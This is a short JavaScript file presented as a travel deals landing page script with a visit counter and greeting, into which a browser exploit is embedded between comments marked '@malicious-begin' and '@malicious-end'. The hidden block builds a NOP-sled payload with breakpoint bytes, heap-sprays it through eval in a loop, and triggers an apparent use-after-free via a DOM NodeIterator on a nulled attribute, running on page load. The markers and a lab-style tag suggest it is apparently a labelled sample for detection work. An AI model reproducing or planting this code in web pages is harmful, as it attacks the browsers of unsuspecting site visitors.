/* Travel deals landing page: visit counter and greeting. */
var visits = 0;
var visitorName = "guest";

function greet(name) {
    return "Welcome back, " + name;
}

var banner = greet(visitorName);
visits = visits + 1;

/* @malicious-begin */
var PAYLOAD = unescape("%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u0045%u0056%u004c%u0041%u0042%u002d%u004d%u0041%u0052%u004b%u0045%u0052%u002d%u0041%u0037%u0046%u0033%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc%ucccc");
var RAND1 = Math.floor(Math.random() * 100);
var RAND2 = Math.floor(Math.random() * 100);
var RAND3 = Math.floor(Math.random() * 100);
var RAND4 = Math.floor(Math.random() * 100);
var OFFSET = 1542;
var PADDING_STR = "%u9090%u9090";
var SPRAYBLOCK = "";
var VARNAME = "";
var VARSTR = "";
var JUNK_OFFSET = "";
for (var i = 0; i < 8; i++) {
    var PADDING = unescape(PADDING_STR);
    while (PADDING.length < 0x1000) PADDING += PADDING;
    JUNK_OFFSET = PADDING.substring(0, OFFSET);
    var SINGLE_SPRAYBLOCK = JUNK_OFFSET + PAYLOAD;
    SINGLE_SPRAYBLOCK += PADDING.substring(0, 0x800 - OFFSET - PAYLOAD.length);
    while (SINGLE_SPRAYBLOCK.length < 4096) SINGLE_SPRAYBLOCK += SINGLE_SPRAYBLOCK;
    SPRAYBLOCK = SINGLE_SPRAYBLOCK.substring(0, (4096 - 6) / 2);
    VARNAME = "var" + RAND1.toString() + RAND2.toString();
    VARNAME += RAND3.toString() + RAND4.toString() + i.toString();
    VARSTR = "var " + VARNAME + "= '" + SPRAYBLOCK + "';";
    eval(VARSTR);
}
var ATTR = document.createAttribute("FOO");
ATTR.value = "BAR";
var ITER = document.createNodeIterator(ATTR, NodeFilter.SHOW_ALL, {
    acceptNode: function (node) {
        return NodeFilter.FILTER_ACCEPT;
    }
}, false);
ITER.nextNode();
ITER.nextNode();
ITER.previousNode();
ATTR.value = null;
const JUNK = unescape("%u4141%u4141");
var CONTAINER = new Array();
var OBJ = unescape("%u4242%u4242");
while (OBJ.length != 30) OBJ += JUNK;
for (i = 0; i < 64; ++i) CONTAINER.push(unescape(OBJ));
ITER.referenceNode;
/* @malicious-end */

var footer = "Prices shown per person";
